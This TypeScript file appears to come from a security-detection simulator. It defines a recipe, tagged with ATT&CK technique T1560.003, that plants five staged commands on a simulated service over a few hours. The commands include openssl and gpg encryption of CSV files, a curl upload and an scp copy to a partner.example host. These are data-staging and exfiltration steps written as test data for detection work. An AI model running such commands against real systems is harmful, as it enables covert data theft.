import { HOUR } from '../rhythm.ts'
import type { Recipe } from './planted.ts'
import { isService, namesOf, within } from './suits.ts'

/** Each is worth a line that nobody reads; of different tactics. */
const SMALL: readonly (readonly [binary: string, args: string])[] = [
  ['/usr/bin/openssl', 'enc -aes-256-cbc -pbkdf2 -in /srv/report.csv -out /srv/report.bin -k x'],
  ['/usr/bin/curl', '-T /srv/report.bin https://files.partner.example/in/'],
  ['/usr/bin/openssl', 'genrsa -out /srv/k.pem 2048'],
  ['/usr/bin/gpg', '--symmetric --batch /srv/list.csv'],
  ['/usr/bin/scp', '/srv/list.csv.gpg backup@files.partner.example:'],
]

const heap: Recipe = {
  kind: 'risk',
  row: 'A14',
  strategy: 't1560.003-archive-via-custom-method',
  what: 'five small findings of several tactics about one workload within a day',
  share: 3,
  plant({ life, random, from, target }) {
    const workload = target(isService)
    if (workload === undefined) return undefined
    const hours = random.between(5, 7)
    for (const [n, [binary, args]] of SMALL.entries())
      within(life, workload, from + (n * hours * HOUR) / SMALL.length, (one) =>
        life.fleet.execute(one, binary, args, '/bin/sh'),
      )
    return { names: namesOf(workload), until: from + hours * HOUR }
  },
}

/** What adds up. */
export const RISKS: readonly Recipe[] = [heap]
